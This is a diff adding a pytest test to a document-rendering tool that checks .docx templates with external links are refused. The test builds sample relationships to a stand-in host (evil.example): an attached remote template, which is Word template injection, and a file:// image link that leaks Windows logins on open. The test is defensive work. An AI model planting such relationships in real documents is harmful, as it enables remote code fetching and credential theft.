@@ -275,3 +275,91 @@ def test_a_register_path_naming_a_pipe_or_a_device_is_said_to_be_no_register_fil
         assert done.returncode == 2
         assert "不是普通文件" in done.stderr and "磁盘" not in done.stderr, done.stderr
         assert not out.exists()
+
+
+# ---------------------------------------------------------------------------------- templates
+_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _template_with(folder: Path, rels: dict[str, str]) -> Path:
+    """The shipped templates copied to ``folder``, the complaint's given ``rels``: part name →
+    a relationship added to it (the part made when missing)."""
+    import shutil
+    import zipfile
+
+    from kesu_docs.render import default_template_dir
+
+    shutil.copytree(default_template_dir(), folder)
+    path = folder / "complaint.docx"
+    with zipfile.ZipFile(path) as archive:
+        members = [(info, archive.read(info)) for info in archive.infolist()]
+    empty = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info, data in members:
+            if info.filename in rels:
+                data = data.replace(b"</Relationships>", rels[info.filename].encode() + b"</Relationships>")
+            archive.writestr(info, data)
+        for name, rel in rels.items():
+            if name not in {info.filename for info, _ in members}:
+                archive.writestr(name, empty.replace("</Relationships>", rel + "</Relationships>"))
+    return folder
+
+
+def test_a_template_that_has_word_fetch_from_outside_is_refused_a_hyperlink_is_not(tmp_path):
+    """A template given an attached template on a web server (Word fetches it as it opens the
+    document: the known "template injection") and a picture linked from a share (fetched on
+    opening, the user's Windows login sent along): each controlled document carried both, and
+    LibreOffice's PDF conversion on the server would fetch them too. Now the template is refused,
+    naming each link and what to do, zh and en, and nothing is written; a hyperlink (fetched
+    only when clicked) is kept as before."""
+    import zipfile
+
+    bad = _template_with(
+        tmp_path / "bad",
+        {
+            "word/_rels/settings.xml.rels": f'<Relationship Id="rId1" Type="{_RELS}attachedTemplate" '
+            'Target="http://evil.example/t.dotm" TargetMode="External"/>',
+            "word/_rels/document.xml.rels": f'<Relationship Id="rId99" Type="{_RELS}image" '
+            'Target="file://evil.example/share/x.png" TargetMode="External"/>',
+        },
+    )
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    write_json(inbox / "c.json", complaint())
+    for lang, words in (("zh", "打开文件时会从文件外取来的内容"), ("en", "fetches from outside the file")):
+        out = tmp_path / f"out-{lang}"
+        done = python_process(
+            *("-m", "kesu_docs", "render", str(inbox), "-o", str(out), "--db", str(tmp_path / "k.db")),
+            cwd=tmp_path,
+            KESU_TEMPLATES=str(bad),
+            KESU_LANG=lang,
+            COLUMNS="400",
+        )
+        said = " ".join(done.stdout.split())
+        assert done.returncode == 1 and words in said, done.stdout + done.stderr
+        assert "http://evil.example/t.dotm" in said and "file://evil.example/share/x.png" in said
+        assert not list(out.glob("*.docx"))
+    good = _template_with(
+        tmp_path / "good",
+        {
+            "word/_rels/document.xml.rels": f'<Relationship Id="rId98" Type="{_RELS}hyperlink" '
+            'Target="https://plant.example/" TargetMode="External"/>'
+        },
+    )
+    done = python_process(
+        *(
+            "-m",
+            "kesu_docs",
+            "render",
+            str(inbox),
+            "-o",
+            str(tmp_path / "out"),
+            "--db",
+            str(tmp_path / "k2.db"),
+        ),
+        cwd=tmp_path,
+        KESU_TEMPLATES=str(good),
+    )
+    assert done.returncode == 0, done.stdout
+    [made] = (tmp_path / "out").glob("*.docx")
+    assert b"https://plant.example/" in zipfile.ZipFile(made).read("word/_rels/document.xml.rels")
